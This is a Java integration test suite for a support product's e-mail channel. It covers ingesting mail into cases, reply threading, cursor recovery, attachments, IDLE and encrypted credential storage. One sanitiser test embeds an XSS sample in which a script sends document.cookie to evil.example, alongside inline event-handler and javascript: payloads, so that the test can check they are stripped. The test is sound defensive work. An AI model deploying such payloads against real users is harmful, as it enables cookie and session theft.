package org.frontline.channels.email;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import com.icegreen.greenmail.configuration.GreenMailConfiguration;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.user.GreenMailUser;
import com.icegreen.greenmail.util.GreenMailUtil;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.mail.internet.MimeMessage;
import java.time.Duration;
import java.util.Arrays;
import java.util.UUID;
import org.frontline.cases.CaseId;
import org.frontline.channels.internal.SourceKind;
import org.frontline.channels.internal.SourceHealth;
import org.frontline.ingest.Channel;
import org.frontline.ingest.Posts;
import org.frontline.replies.DeliveryState;
import org.frontline.replies.Replies;
import org.frontline.shared.WorkspaceId;
import org.frontline.testing.TestWorkspaces;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.context.WebApplicationContext;

/** The e-mail channel against a real IMAP and SMTP server (GreenMail, in-process, on free ports). */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
class EmailChannelIntegrationTests {

    private static final String PASSWORD = "correct-horse-battery-staple";

    @RegisterExtension
    static GreenMailExtension mail = new GreenMailExtension(ServerSetup.dynamicPort(ServerSetupTest.SMTP_IMAP))
            .withConfiguration(GreenMailConfiguration.aConfig().withUser("support@acme.test", "support", PASSWORD));

    @Autowired WebApplicationContext context;
    @Autowired Mailboxes mailboxes;
    @Autowired MailboxPoller poller;
    @Autowired MailboxWatcher watcher;
    @Autowired Posts posts;
    @Autowired Replies replies;
    @Autowired SourceHealth health;
    @Autowired JdbcClient jdbc;

    private GreenMailUser support;
    private TestWorkspaces.TestWorkspace ws;
    private UUID mailbox;

    @BeforeEach
    void connect() {
        support = mail.getUserManager().getUser("support");
        ws = new TestWorkspaces(context).createWithQuery("acme", "acme");
        mailbox = mailboxes.add(ws.id(), new MailboxSettings("support@acme.test", "127.0.0.1", mail.getImap().getPort(), false, "support",
                PASSWORD, "INBOX", "127.0.0.1", mail.getSmtp().getPort()));
    }

    @Test
    void aMessageDeliveredToTheMailboxBecomesACase() {
        deliver(message("<first@customer.test>", null, null, "Acme charged me twice", "Hello, my Acme invoice is wrong."));

        var outcome = poller.pollNow(ws.id(), mailbox);

        assertThat(outcome.created()).isEqualTo(1);
        var post = posts.find(ws.id(), posts.findByExternalId(ws.id(), Channel.EMAIL, "<first@customer.test>").orElseThrow()).orElseThrow();
        assertThat(post.author().handle()).isEqualTo("ana@customer.test");
        assertThat(post.author().displayName()).isEqualTo("Ana Lima");
        assertThat(post.text()).isEqualTo("Acme charged me twice\n\nHello, my Acme invoice is wrong.");
        assertThat(post.url()).isNull();
        awaitCaseOf("<first@customer.test>");
        assertThat(health.of(ws.id(), SourceKind.EMAIL, mailbox).items()).isEqualTo(1);
    }

    @Test
    void aFollowUpWithInReplyToJoinsTheCaseOfTheMessageItAnswers() {
        deliver(message("<first@customer.test>", null, null, "Acme charged me twice", "My Acme invoice is wrong."));
        poller.pollNow(ws.id(), mailbox);
        var caseId = awaitCaseOf("<first@customer.test>");
        // Another sender, so only the thread headers can join it (not the same-author follow-up window).
        deliver(message("<second@customer.test>", "<first@customer.test>", "<first@customer.test>", "Re: Acme charged me twice",
                "Acme, any news?").replace("Ana Lima <ana@customer.test>", "Bo <bo@customer.test>"));

        poller.pollNow(ws.id(), mailbox);

        assertThat(awaitCaseOf("<second@customer.test>")).isEqualTo(caseId);
    }

    @Test
    void theCursorSurvivesARestartOfThePollerWithoutSkippingOrRepeating() {
        deliver(message("<m1@customer.test>", null, null, "Acme one", "first"));
        deliver(message("<m2@customer.test>", null, null, "Acme two", "second"));
        assertThat(poller.pollNow(ws.id(), mailbox).created()).isEqualTo(2);
        deliver(message("<m3@customer.test>", null, null, "Acme three", "third"));

        // Each pollNow is a new connection that starts from the stored cursor, as after a restart.
        var afterRestart = poller.pollNow(ws.id(), mailbox);
        var nothingNew = poller.pollNow(ws.id(), mailbox);
        // A crash after storing posts but before moving the cursor re-reads them: ingest keeps one of each.
        jdbc.sql("update mailbox set last_uid = 0 where id = ?").param(mailbox).update();
        var reRead = poller.pollNow(ws.id(), mailbox);

        assertThat(afterRestart.messages()).isEqualTo(1);
        assertThat(afterRestart.created()).isEqualTo(1);
        assertThat(nothingNew.messages()).isZero();
        assertThat(reRead.messages()).isEqualTo(3);
        assertThat(reRead.created()).isZero();
        assertThat(posts.count(ws.id())).isEqualTo(3);
    }

    @Test
    void aNewUidValidityReadsTheFolderAgainWithoutDuplicates() {
        deliver(message("<v1@customer.test>", null, null, "Acme", "once"));
        poller.pollNow(ws.id(), mailbox);
        jdbc.sql("update mailbox set uid_validity = uid_validity + 1 where id = ?").param(mailbox).update();

        var again = poller.pollNow(ws.id(), mailbox);

        assertThat(again.messages()).isEqualTo(1);
        assertThat(again.created()).isZero();
        assertThat(posts.count(ws.id())).isEqualTo(1);
    }

    @Test
    void htmlIsReducedToTextAndNoScriptSurvives() {
        deliver("""
                From: Ana Lima <ana@customer.test>
                To: support@acme.test
                Subject: Acme page broken
                Message-ID: <html@customer.test>
                MIME-Version: 1.0
                Content-Type: text/html; charset=UTF-8

                <html><head><style>p{color:red}</style><script>alert('head')</script></head>
                <body><p>Hello <b>Acme</b>,</p><script>document.location='https://evil.example/'+document.cookie</script>
                <p onclick="steal()">the <a href="javascript:alert(1)">page</a> is broken.</p><img src=x onerror=alert(2)></body></html>
                """);

        poller.pollNow(ws.id(), mailbox);

        var text = posts.find(ws.id(), posts.findByExternalId(ws.id(), Channel.EMAIL, "<html@customer.test>").orElseThrow()).orElseThrow().text();
        assertThat(text).isEqualTo("Acme page broken\n\nHello Acme,\n\nthe page is broken.");
        assertThat(text).doesNotContain("<", "script", "alert", "evil.example", "onerror");
    }

    @Test
    void attachmentsAreNamedNotReadAndAMalformedMessageIsReportedWithoutStoppingTheMailbox() {
        deliver("""
                To: support@acme.test
                Subject: no sender at all
                Message-ID: <nofrom@customer.test>

                Who wrote this?
                """);
        deliver("""
                From: ana@customer.test
                To: support@acme.test
                Subject: Acme receipt
                Message-ID: <attached@customer.test>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="b1"

                --b1
                Content-Type: text/plain; charset=UTF-8

                See the receipt.
                --b1
                Content-Type: application/pdf; name="receipt.pdf"
                Content-Disposition: attachment; filename="receipt.pdf"
                Content-Transfer-Encoding: base64

                JVBERi0xLjQK
                --b1--
                """);

        var outcome = poller.pollNow(ws.id(), mailbox);

        assertThat(outcome.ok()).isTrue();
        assertThat(outcome.malformed()).isEqualTo(1);
        assertThat(outcome.created()).isEqualTo(1);
        var text = posts.find(ws.id(), posts.findByExternalId(ws.id(), Channel.EMAIL, "<attached@customer.test>").orElseThrow()).orElseThrow().text();
        assertThat(text).isEqualTo("Acme receipt\n\nSee the receipt.\n\n[Attachments, not read: receipt.pdf]");
        var status = mailboxes.list(ws.id()).getFirst();
        assertThat(status.health().lastError()).contains("1 message(s) could not be read", "UID 1", "From");
        assertThat(status.malformed()).isEqualTo(1);
    }

    @Test
    void idleDeliversAMessageAsSoonAsItArrives() {
        watcher.watch(ws.id(), mailbox);
        try {
            // Deliver only once the worker is waiting in IDLE, so that the server's notification is what wakes it.
            await().atMost(Duration.ofSeconds(20)).until(() -> watcher.idles(mailbox) == 1);
            deliver(message("<idle@customer.test>", null, null, "Acme is down", "Since this morning."));
            await().atMost(Duration.ofSeconds(20))
                    .until(() -> posts.findByExternalId(ws.id(), Channel.EMAIL, "<idle@customer.test>").isPresent());

            await().atMost(Duration.ofSeconds(20)).until(() -> watcher.idles(mailbox) == 2);
            deliver(message("<idle2@customer.test>", null, null, "Acme still down", "Hello?"));
            await().atMost(Duration.ofSeconds(20))
                    .until(() -> posts.findByExternalId(ws.id(), Channel.EMAIL, "<idle2@customer.test>").isPresent());
            assertThat(mailboxes.list(ws.id()).getFirst().idle()).isTrue();
        } finally {
            watcher.stop(mailbox);
        }
        assertThat(mailboxes.list(ws.id()).getFirst().connected()).isTrue();
    }

    @Test
    void aReplyGoesOutOverSmtpOnTheCustomersThread() throws Exception {
        deliver(message("<ask@customer.test>", "<older@customer.test>", "<root@customer.test> <older@customer.test>",
                "Acme refund", "Where is my Acme refund?"));
        poller.pollNow(ws.id(), mailbox);
        var caseId = awaitCaseOf("<ask@customer.test>");
        // The replies module learns the post to answer from CaseOpened, asynchronously.
        await().atMost(Duration.ofSeconds(20)).until(() -> jdbc.sql("select count(*) from reply_target where case_id = ?")
                .param(caseId.value()).query(Long.class).single() == 1);

        var mvc = MockMvcBuilders.webAppContextSetup(context).apply(springSecurity()).build();
        var composer = mvc.perform(get("/w/" + ws.slug() + "/cases/" + caseId.value() + "/composer").with(user(ws.adminEmail())))
                .andReturn().getResponse().getContentAsString();
        assertThat(composer).contains(">Send</button>").doesNotContain("Mark as answered elsewhere");

        var reply = replies.answer(ws.id(), caseId, "email", "agent@acme.test", "Your refund left today.");

        assertThat(reply.state()).isEqualTo(DeliveryState.QUEUED);
        await().atMost(Duration.ofSeconds(20)).until(() -> sentTo("ana@customer.test") != null);
        var sent = sentTo("ana@customer.test");
        assertThat(sent.getHeader("In-Reply-To", null)).isEqualTo("<ask@customer.test>");
        assertThat(sent.getHeader("References", null)).isEqualTo("<root@customer.test> <older@customer.test> <ask@customer.test>");
        assertThat(sent.getSubject()).isEqualTo("Re: Acme refund");
        assertThat(sent.getMessageID()).isEqualTo("<frontline-" + reply.id() + "@acme.test>");
        assertThat(sent.getFrom()[0].toString()).isEqualTo("support@acme.test");
        assertThat(GreenMailUtil.getBody(sent)).contains("Your refund left today.");
        await().atMost(Duration.ofSeconds(20)).until(() -> replies.ofCase(ws.id(), caseId).getFirst().state() == DeliveryState.SENT);
        assertThat(replies.ofCase(ws.id(), caseId).getFirst().externalId()).isEqualTo("<frontline-" + reply.id() + "@acme.test>");
    }

    @Test
    void credentialsAreStoredEncryptedAndNeverShown() throws Exception {
        var sealed = jdbc.sql("select password_sealed from mailbox where id = ?").param(mailbox).query(String.class).single();
        var row = jdbc.sql("select * from mailbox where id = ?").param(mailbox).query().singleRow();

        assertThat(sealed).startsWith("v1:").doesNotContain(PASSWORD);
        assertThat(row.values()).allSatisfy(value -> assertThat(String.valueOf(value)).doesNotContain(PASSWORD));
        var mvc = MockMvcBuilders.webAppContextSetup(context).apply(springSecurity()).build();
        var admin = user(ws.adminEmail());
        var page = mvc.perform(get("/w/" + ws.slug() + "/channels/mailboxes").with(admin)).andReturn().getResponse().getContentAsString();
        assertThat(page).contains("support@acme.test").doesNotContain(PASSWORD, "v1:");
        // A wrong password is refused by the server, and the reason shown does not echo it.
        var added = mvc.perform(post("/w/" + ws.slug() + "/channels/mailboxes").with(admin).with(csrf())
                .param("address", "other@acme.test").param("imapHost", "127.0.0.1").param("imapPort", String.valueOf(mail.getImap().getPort()))
                .param("username", "support").param("password", "wrong-" + PASSWORD).param("folder", "Archive")
                .param("smtpHost", "127.0.0.1").param("smtpPort", String.valueOf(mail.getSmtp().getPort()))).andReturn();
        assertThat(String.valueOf(added.getFlashMap().get("error"))).doesNotContain(PASSWORD);
        assertThat(mailboxes.list(ws.id())).hasSize(2).allSatisfy(m -> assertThat(m.toString()).doesNotContain(PASSWORD));
    }

    private CaseId awaitCaseOf(String messageId) {
        return await().atMost(Duration.ofSeconds(20)).until(() -> caseOf(ws.id(), messageId), id -> id != null);
    }

    private CaseId caseOf(WorkspaceId workspace, String messageId) {
        return jdbc.sql("select m.case_id from mention m join post p on p.id = m.post_id where p.workspace_id = ? and p.external_id = ?")
                .params(workspace.value(), messageId)
                .query((rs, i) -> new CaseId(rs.getObject(1, UUID.class)))
                .optional()
                .orElse(null);
    }

    private static MimeMessage sentTo(String address) {
        return Arrays.stream(mail.getReceivedMessages())
                .filter(m -> {
                    try {
                        return m.getAllRecipients() != null && m.getAllRecipients()[0].toString().equals(address);
                    } catch (jakarta.mail.MessagingException e) {
                        return false;
                    }
                })
                .findFirst()
                .orElse(null);
    }

    private void deliver(String raw) {
        support.deliver(GreenMailUtil.newMimeMessage(raw.replace("\n", "\r\n")));
    }

    private static String message(String id, String inReplyTo, String references, String subject, String body) {
        return "From: Ana Lima <ana@customer.test>\nTo: support@acme.test\nSubject: " + subject + "\nMessage-ID: " + id + "\n"
                + "Date: Mon, 23 Nov 2026 10:00:00 +0000\n"
                + (inReplyTo == null ? "" : "In-Reply-To: " + inReplyTo + "\n")
                + (references == null ? "" : "References: " + references + "\n")
                + "MIME-Version: 1.0\nContent-Type: text/plain; charset=UTF-8\n\n" + body + "\n";
    }
}
